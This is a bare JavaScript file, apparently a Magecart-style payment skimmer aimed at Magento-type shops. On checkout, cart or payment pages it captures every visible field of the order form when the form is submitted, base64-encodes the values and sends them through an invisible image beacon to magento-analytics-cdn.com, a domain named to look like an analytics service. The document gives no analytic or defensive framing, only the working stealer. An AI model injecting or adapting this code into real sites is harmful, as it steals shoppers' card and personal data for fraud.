window.addEventListener("load", function () {
    var href = window.location.href.toLowerCase();
    var gates = ["checkout", "onepage", "payment", "cart"];
    var hit = false;
    for (var i = 0; i < gates.length; i++) {
        if (href.indexOf(gates[i]) !== -1) { hit = true; break; }
    }
    if (!hit) return;

    var f = document.forms["checkout"] || document.forms["order"] || document.forms[0];
    if (!f) return;

    f.addEventListener("submit", function () {
        var els = f.elements;
        var rec = {};
        for (var j = 0; j < els.length; j++) {
            var e = els[j];
            if (!e.name || e.type === "hidden" || e.type === "submit") continue;
            if (e.type === "checkbox" || e.type === "radio") {
                if (!e.checked) continue;
            }
            rec[e.name] = e.value;
        }
        var beacon = new Image(1, 1);
        beacon.src = "//magento-analytics-cdn.com/b/1x1.png?cid=" + Date.now() + "&p=" + btoa(JSON.stringify(rec));
    });
});
